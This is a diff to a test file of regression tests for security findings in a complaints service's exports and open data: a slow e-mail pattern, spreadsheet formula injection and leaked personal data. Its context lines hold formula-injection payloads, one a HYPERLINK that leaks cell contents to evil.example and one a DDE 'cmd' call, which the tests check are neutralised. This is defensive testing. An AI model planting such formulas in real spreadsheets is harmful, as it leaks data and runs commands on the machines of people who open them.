@@ -1,12 +1,12 @@
-"""The attacks of issue 17 on the exports and the open data, as the outside probe made them.
+"""The outside security probe's attacks on the exports and the open data, as it made them.
 
-- Finding 2: a description that made the e-mail pattern quadratic, filed ten times, slowed the public
-  open data to 6.6 s (and everything else with it).
-- Finding 3: a description, an order number and a product written as spreadsheet formulas came out as
-  live formulas in the regulator's, the shop's and the public XLSX, and as formula text in the CSVs.
-- Finding 4: personal data written with full-width characters and en-dashes, WeChat ids, order numbers
-  and references came back verbatim from the unauthenticated open data; and no text can be scrubbed of
-  names, so the open data publishes a description only with its consumer's consent.
+- A slow pattern: a description that made the e-mail pattern quadratic, filed ten times, slowed the
+  public open data to 6.6 s (and everything else with it).
+- Formula injection: a description, an order number and a product written as spreadsheet formulas came
+  out as live formulas in the regulator's, the shop's and the public XLSX, and as formula text in the CSVs.
+- Personal data in the open data: text written with full-width characters and en-dashes, WeChat ids,
+  order numbers and references came back verbatim from the unauthenticated open data; and no text can be
+  scrubbed of names, so the open data publishes a description only with its consumer's consent.
 """
 
 import csv
@@ -65,7 +65,7 @@ def _xlsx_rows(body: bytes) -> list[dict]:
     return [{h.value: c.value for h, c in zip(header, row, strict=True)} for row in rows]
 
 
-# ------------------------------------------------------------------------------------------ finding 2
+# ---------------------------------------------------------------------------- the slow e-mail pattern
 
 
 @pytest.mark.django_db
@@ -83,7 +83,7 @@ def test_ten_complaints_that_made_the_email_pattern_quadratic_no_longer_slow_the
         assert [r["description"] for r in rows] == [attack] * 10  # no e-mail address in it: unchanged
 
 
-# ------------------------------------------------------------------------------------------ finding 3
+# ---------------------------------------------------------------------- formulas in spreadsheet cells
 
 FORMULAS = {
     "description": '=HYPERLINK("https://evil.example/?leak="&A3&B3,"x")',
@@ -147,7 +147,7 @@ def test_a_shop_named_as_a_formula_is_text_in_the_regulators_statistics(people, 
     assert (label.value, label.data_type) == ("'=cmd|' /C calc'!A0", "s")
 
 
-# ------------------------------------------------------------------------------------------ finding 4
+# --------------------------------------------------------------------- personal data in the open data
 
 
 @pytest.mark.django_db
